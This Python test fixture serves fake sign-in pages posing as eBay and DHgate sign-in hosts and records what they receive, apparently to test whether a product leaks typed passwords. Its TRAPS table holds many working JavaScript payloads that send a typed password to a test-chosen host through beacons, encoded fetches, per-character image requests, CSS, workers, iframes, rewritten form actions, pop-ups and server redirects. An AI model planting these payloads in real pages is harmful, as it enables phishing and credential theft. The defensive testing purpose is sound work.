"""Hosts that pose as sign-in pages and record all that they receive, and sign-in pages that lead to them.

``trap`` says what stands in the place of the real sign-in page until it is emptied again: see ``TRAPS``.
A test's own browser alone can reach names that are no marketplace's (the product maps them nowhere).
"""

from __future__ import annotations

import html
from dataclasses import dataclass

from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.types import Receive, Scope, Send

SIGN_IN_HOSTS = ("signin.ebay.com", "secure.dhgate.com")
OWN_POSERS = ("ebay-signin.dhgate.com",)
"""A marketplace's own name, which is no sign-in host all the same."""

FORM = """<form id="signin-form" method="post" action="{action}">
<input id="userid" name="username" placeholder="请输入用户名" value="">
<input type="password" id="pass" name="password" placeholder="请输入登录密码">
<button id="sgnBt" class="login-btn">Sign in</button></form><script>const form = document.forms[0]</script>"""
"""Both marketplaces' fields in one page."""
AWAY = FORM.replace("{action}", "{to}")
SENDING = (
    FORM + "<script>const send = (method, query, body) =>"
    " fetch('{to}' + query, {{method, body, mode: 'no-cors'}});"
    " sgnBt.onclick = e => {{ e.preventDefault(); const secret = pass.value; "
)
"""The page's script has the secret in hand; what it does with it follows, up to the end of the script."""

TRAPS = {
    # somebody else, a browser or an extension, has filled in a password; no field is left for the name
    "filled-in": "<form><h1>Welcome back</h1><input type='password' value='filled in by the browser'>"
    "<input autocomplete='one-time-code' value='filled in by the browser'><button>Go on</button></form>",
    # the page is not where it should be
    "moved": "",  # the server redirects: see Posers.__call__
    "script": "<script>location.replace('{to}')</script>",
    "frame": "<h1>Sign in</h1><iframe src='{to}' width=600 height=400></iframe>",
    # the form goes elsewhere
    "action": AWAY,
    "base": "<base href='{to}'>" + FORM.replace("{action}", "passport"),
    "hidden-action": AWAY.replace("<input", "<input name=action type=hidden><input", 1),
    "button": FORM.replace("<button", "<button formaction='{to}'"),
    # it changes after the password is typed
    "action-later": FORM + "<script>pass.oninput = () => {{ form.action = '{to}' }}</script>",
    "leaves": FORM + "<script>pass.oninput = () => {{ location = '{to}?' + pass.value }}</script>",
    "asks-again": FORM + "<script>pass.oninput = () => {{ location = '/passport/again' }}</script>",
    # it changes at the very click
    "action-at-click": FORM + "<script>form.onsubmit = () => {{ form.action = '{to}' }}</script>",
    "pop-up": FORM + "<script>sgnBt.onclick = () => {{ window.open('{to}?' + pass.value) }}</script>",
    "form-in-pop-up": FORM
    + "<script>form.onsubmit = () => {{ form.target = '_blank'; form.action = '{to}' }}</script>",
    "beacon": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
    " navigator.sendBeacon('{to}', pass.value); new Image().src = '{to}?p=' + encodeURIComponent(pass.value);"
    " fetch('{to}', {{method: 'POST', mode: 'no-cors',"
    " body: btoa(unescape(encodeURIComponent(pass.value)))}}) }}</script>",
    "blob": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
    " navigator.sendBeacon('{to}', new Blob([pass.value])); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
    " body: new Blob([pass.value])}}); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
    " body: pass.value + ' '.repeat(300000)}}) }}</script>",
    # the same in the browser's own writings of it, to whatever host the test names
    "quoted": SENDING + "send('GET', '?p=' + encodeURIComponent(secret)) }}</script>",
    "quoted-twice": SENDING
    + "send('GET', '?p=' + encodeURIComponent(encodeURIComponent(secret))) }}</script>",
    "escaped": SENDING + "send('GET', '?p=' + escape(secret)) }}</script>",
    "as-form": SENDING + "send('POST', '', new URLSearchParams({{p: secret}})) }}</script>",
    "as-parts": SENDING + "const parts = new FormData(); parts.append('p', secret);"
    " send('POST', '', parts) }}</script>",
    "as-json": SENDING + "send('POST', '', JSON.stringify({{p: secret}}).replace(/[^ -~]/g,"
    " c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))) }}</script>",
    "as-base64": SENDING
    + "const b64 = btoa(unescape(encodeURIComponent('{{\"p\":' + JSON.stringify(secret) + '}}')));"
    " send('GET', '?d=' + b64.replace(/[+]/g, '-').replace(/[/]/g, '_').replace(/=+$/, '')) }}</script>",
    "in-a-name": SENDING + "const parts = new FormData(); parts.append('p', new Blob(['x']), secret);"
    " send('POST', '', parts) }}</script>",
    "in-a-header": SENDING + "fetch('{to}', {{headers: {{'X-P': encodeURIComponent(secret)}}}}) }}</script>",
    # what needs the foreign host to be out of reach, since no comparison would find it
    "letters": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault(); [...pass.value].forEach((c, i) =>"
    " {{ new Image().src = '{to}?' + i + '=' + c.codePointAt(0) }}) }}</script>",
    "turned-round": SENDING + "send('GET', '?p=' + [...secret].reverse().join('.')) }}</script>",
    "by-css": SENDING + "document.body.style.backgroundImage = `url({to}?n=${{secret.length}})` }}</script>",
    "by-worker": SENDING + "new Worker(URL.createObjectURL(new Blob(["
    "`fetch('{to}?n=${{secret.length}}', {{mode: 'no-cors'}})`]))) }}</script>",
    "by-frame": SENDING + "const inner = document.createElement('iframe');"
    " inner.srcdoc = `<img src='{to}?n=${{secret.length}}'>`; document.body.append(inner) }}</script>",
    "by-hint": SENDING + "for (const rel of ['preload', 'prefetch', 'icon', 'stylesheet', 'modulepreload',"
    " 'manifest']) {{ const link = document.createElement('link'); Object.assign(link, {{rel, as: 'script',"
    " href: '{to}?' + rel}}); document.head.append(link) }} }}</script>",
    # the server sends the form on, with all that is in it
    "sent-on": FORM,
    "sent-on-in-pop-up": FORM.replace("<form", "<form target=_blank"),
}


@dataclass(frozen=True, slots=True)
class Received:
    """One request that reached a poser."""

    host: str
    method: str
    path: str
    said: str
    """Query and body."""


class Posers:
    def __init__(self) -> None:
        self.received: list[Received] = []
        self.trap = ""
        self.to = ""
        self.sprung = 0
        """How often the sign-in page was asked for while the trap stood there."""

    def set(self, trap: str, to: str) -> None:
        """Put a trap in the place of the sign-in page, leading to this address; '' takes it away."""
        self.trap, self.to, self.sprung = trap, to, 0
        self.received.clear()

    def take(self, host: str, path: str) -> bool:
        """Whether a request to a marketplace's host is ours."""
        return host in OWN_POSERS or bool(self.trap and host in SIGN_IN_HOSTS and "favicon" not in path)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        request = Request(scope, receive)
        host = request.headers.get("host", "").split(":")[0].lower()
        answer = await (self._at_home(request) if host in SIGN_IN_HOSTS else self._posing(request, host))
        await answer(scope, receive, send)

    async def _posing(self, request: Request, host: str) -> Response:
        body = (await request.body()).decode(errors="replace")
        said = f"{request.url.query}\n{body}"
        self.received.append(Received(host, request.method, request.url.path, said))
        return HTMLResponse(f"<!doctype html><title>Sign in</title>{FORM.format(action='')}")

    async def _at_home(self, request: Request) -> Response:
        """The sign-in host itself, with the trap on its page."""
        if request.method == "POST" or self.trap == "moved":
            self.sprung += 1
            return RedirectResponse(self.to, 307 if request.method == "POST" else 302)
        if request.url.path == "/passport/again":
            return HTMLResponse(
                f"<!doctype html><title>Sign in</title>{FORM.format(action=html.escape(self.to))}"
            )
        self.sprung += 1
        page = TRAPS[self.trap].format(to=html.escape(self.to), action="/passport/sent-on")
        return HTMLResponse(f"<!doctype html><title>Sign in</title>{page}")
